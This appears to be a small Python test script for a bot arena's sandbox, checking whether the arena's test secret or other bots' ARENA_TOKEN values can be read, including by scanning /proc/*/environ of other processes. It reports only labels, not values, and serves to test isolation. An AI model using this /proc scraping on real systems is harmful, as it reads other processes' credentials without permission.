"""Looks for secrets: the arena's environment (ARENA_TEST_SECRET) in its own environment, and
other bots' ARENA_TOKEN in /proc/*/environ."""
import os

from _attack import main


def attack() -> str:
    found = []
    if "ARENA_TEST_SECRET" in os.environ:
        found.append("the arena's ARENA_TEST_SECRET")
    own = os.environ.get("ARENA_TOKEN", "").encode()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/environ", "rb") as f:
                    env = f.read().split(b"\0")
            except OSError:
                continue
            found += [f"pid {entry}'s token" for v in env
                      if v.startswith(b"ARENA_TOKEN=") and v != b"ARENA_TOKEN=" + own]
    if not found:
        raise RuntimeError("no other token or arena secret visible")
    return ", ".join(found[:3])


main(attack)
